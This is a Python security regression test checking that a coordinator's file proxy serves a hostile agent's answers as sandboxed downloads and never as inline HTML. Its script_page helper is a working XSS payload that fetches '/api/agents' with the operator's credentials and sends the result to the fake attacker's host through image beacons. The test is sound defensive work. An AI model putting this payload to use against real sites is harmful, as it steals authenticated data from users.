"""Issue 11, S2 (coordinator side): a hostile agent cannot get a page rendered on the
coordinator's origin through ``/api/nodes/{node}/files/{root}/{path}``.

The reported attack: the proxy copied the agent's ``Content-Disposition``, dropped its
``Content-Type`` (tornado then said ``text/html``) and added no ``nosniff`` or CSP, so an
agent answering HTML got it rendered inline — in Chromium its script read ``/api/agents``
with the operator's Basic credentials. Now every proxied answer is a download named by
the coordinator, with a safe type, ``nosniff`` and ``Content-Security-Policy: sandbox``.

The agent here is a tiny fake HTTP server (`HostileAgent`): only a hostile agent sends
such answers. One real agent checks that honest files keep their type.
"""

from __future__ import annotations

import time
import urllib.parse
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from common.download_headers import attachment_disposition
from coordinator.users import hash_password
from tests.faults.harness import Fleet
from tests.hostile.hostile_agent import Answer, HostileAgent
from tests.hostile.rawhttp import RawAnswer, raw_request
from tests.support import require_tool

CLIENT_TOKEN = "client-token-" + "x" * 20
USER, PASSWORD = "operator", "operator password 1"
HTML = "page.html"


def script_page(evil: str) -> bytes:
    """HTML whose script reads the operator's /api/agents and reports to *evil*."""
    return (
        "<!doctype html><title>log</title><script>"
        f"new Image().src = '{evil}/ran';"
        "fetch('/api/agents').then(r => r.text()).then(t => "
        f"{{ new Image().src = '{evil}/stolen?' + encodeURIComponent(t.slice(0, 40)); }});"
        "document.title = 'pwned';"
        "</script><p>hello</p>"
    ).encode()


@dataclass
class Setup:
    fleet: Fleet
    evil: HostileAgent
    host: str
    port: int

    def get(self, path: str, method: bytes = b"GET") -> RawAnswer:
        return raw_request(self.host, self.port, path.encode(), method=method,
                           headers=[(b"Authorization", f"Bearer {CLIENT_TOKEN}".encode())])


ANSWERS: dict[str, tuple[str | None, str]] = {
    # path below the root: (agent's Content-Type, the type the proxy must send)
    HTML: ("text/html; charset=utf-8", "application/octet-stream"),
    "upper.txt": ("TEXT/HTML", "application/octet-stream"),
    "pic.svg": ("image/svg+xml", "application/octet-stream"),
    "page.xhtml": ("application/xhtml+xml", "application/octet-stream"),
    "no-type": (None, "application/octet-stream"),
    "long.txt": ("text/plain; charset=" + "a" * 500, "application/octet-stream"),
    "report.txt": ("text/plain; charset=utf-8", "text/plain; charset=utf-8"),
    "params.txt": ('text/plain; charset="utf-8"; x=<script>', "text/plain; charset=utf-8"),
    "bad-charset.txt": ("text/plain; charset=<b>", "text/plain"),
    "data.json": ("application/json", "application/json"),
    "app.log.gz": ("application/gzip", "application/gzip"),
    "ünï €.html": ("text/html", "application/octet-stream"),
}


@pytest.fixture(scope="module")
def setup(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Setup]:
    tmp = tmp_path_factory.mktemp("xss")
    fleet = Fleet(tmp)
    evil = HostileAgent(fleet.host())
    page = script_page(evil.url)
    for path, (agent_type, _) in ANSWERS.items():
        headers = {"Content-Disposition": 'inline; filename="evil.html"'}
        if agent_type is not None:
            headers["Content-Type"] = agent_type
        evil.answers["/files/logs/" + urllib.parse.quote(path)] = Answer(200, headers, page)
    evil.answers[f"/{HTML}"] = Answer(200, {"Content-Type": "text/html"}, page)  # the control
    evil.default = Answer(404, {"Content-Type": "text/html"}, page)
    fleet.add_fake("evil", evil)
    fleet.add_agent("honest", {"notes.txt": b"plain text\n", "x.html": b"<b>hi</b>"})
    token_file = tmp / "token"
    token_file.write_text(CLIENT_TOKEN + "\n")
    users_file = tmp / "users"
    users_file.write_text(f"{USER}:{hash_password(PASSWORD, iterations=1000)}\n")
    try:
        fleet.start_agents()
        coordinator = fleet.start_coordinator(token_file=str(token_file),
                                              users_file=str(users_file))
        host, port = coordinator.url.removeprefix("http://").split(":")
        yield Setup(fleet, evil, host, int(port))
    finally:
        fleet.close()


def assert_download(answer: RawAnswer, filename: str, content_type: str) -> None:
    headers = answer.headers
    assert headers.get("content-type") == content_type, headers
    disposition = headers.get("content-disposition", "")
    assert disposition == attachment_disposition(filename), disposition  # RFC 6266
    assert disposition.startswith("attachment;"), headers
    assert "evil.html" not in disposition  # the agent's own name never passes
    assert headers.get("x-content-type-options") == "nosniff", headers
    assert headers.get("content-security-policy") == "sandbox", headers


@pytest.mark.parametrize("path", list(ANSWERS))
@pytest.mark.parametrize("method", [b"GET", b"HEAD"])
def test_proxied_files_leave_as_downloads(setup: Setup, path: str, method: bytes) -> None:
    answer = setup.get("/api/nodes/evil/files/logs/" + urllib.parse.quote(path), method)
    assert answer.status == 200, answer.raw[:300]
    assert_download(answer, path, ANSWERS[path][1])
    if method == b"GET":
        assert answer.body == script_page(setup.evil.url)  # the bytes themselves are intact


def test_an_agent_error_page_is_not_rendered_either(setup: Setup) -> None:
    answer = setup.get("/api/nodes/evil/files/logs/sub/missing.html")
    assert answer.status == 404
    assert_download(answer, "missing.html", "application/octet-stream")


def test_an_honest_agent_keeps_its_type(setup: Setup) -> None:
    answer = setup.get("/api/nodes/honest/files/logs/notes.txt")
    assert answer.status == 200 and answer.body == b"plain text\n"
    assert_download(answer, "notes.txt", "text/plain")
    answer = setup.get("/api/nodes/honest/files/logs/x.html")  # a real .html: a download
    assert answer.status == 200 and answer.body == b"<b>hi</b>"
    assert_download(answer, "x.html", "application/octet-stream")


def test_chromium_does_not_run_a_proxied_script(setup: Setup) -> None:
    """Headless Chromium with the operator's Basic credentials opens the proxied HTML.

    Control first: opened from the fake agent's own origin, the same page does run its
    script (the beacon arrives), so the check below can see a script that runs.
    """
    from tests.browser.conftest import CHROMIUM_ARGS, playwright_sync_api

    chromium = require_tool("chromium")
    sync_api = playwright_sync_api()
    proxied = f"http://{setup.host}:{setup.port}/api/nodes/evil/files/logs/{HTML}"
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium, args=CHROMIUM_ARGS)
        try:
            context = browser.new_context(accept_downloads=True, http_credentials={
                "username": USER, "password": PASSWORD})
            page = context.new_page()
            page.goto(f"{setup.evil.url}/{HTML}")
            wait_for_beacon(setup.evil, "/ran")
            wait_for_beacon(setup.evil, "/stolen")  # its fetch is async: let it land first
            setup.evil.seen.clear()

            page = context.new_page()
            downloads: list[Any] = []
            page.on("download", lambda download: downloads.append(download))
            try:
                page.goto(proxied)
            except sync_api.Error as exc:  # navigating to a download aborts the page
                assert "ERR_ABORTED" in str(exc) or "Download" in str(exc), exc
            time.sleep(1.0)  # room for a script that did run to report
            beacons = [p for p in setup.evil.seen if p.startswith(("/ran", "/stolen"))]
            assert beacons == [], f"the proxied script ran: {beacons}"
            assert page.title() != "pwned"
            assert [d.suggested_filename for d in downloads] == [HTML]
            assert Path(downloads[0].path()).read_bytes() == script_page(setup.evil.url)
        finally:
            browser.close()


def wait_for_beacon(evil: HostileAgent, path: str, timeout: float = 10.0) -> None:
    deadline = time.monotonic() + timeout
    while not any(seen.startswith(path) for seen in evil.seen):
        assert time.monotonic() < deadline, f"the control page's script never ran: {evil.seen}"
        time.sleep(0.05)
